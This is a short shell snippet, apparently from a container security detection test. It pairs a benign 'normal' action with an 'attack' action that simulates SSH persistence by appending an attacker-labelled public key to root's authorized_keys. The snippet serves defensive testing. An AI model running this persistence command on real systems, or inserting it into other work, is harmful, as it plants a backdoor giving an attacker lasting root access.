# SSH persistence: the attacker adds a public key of theirs to root's authorized_keys (T1098.004), making
# ~/.ssh for it — a key that outlives the intrusion wherever the file is served from (a volume, an image built
# from this container).
normal() { inside "$1" /bin/touch /tmp/cache; }
attack() {
  inside "$1" /bin/sh -c 'mkdir -p /root/.ssh && chmod 700 /root/.ssh &&
    echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPq8yF1oUO9xS3vQq4kOM3nQ6kP2x0lTlA3m1Y4YyU0b attacker@box" >> /root/.ssh/authorized_keys &&
    chmod 600 /root/.ssh/authorized_keys'
}
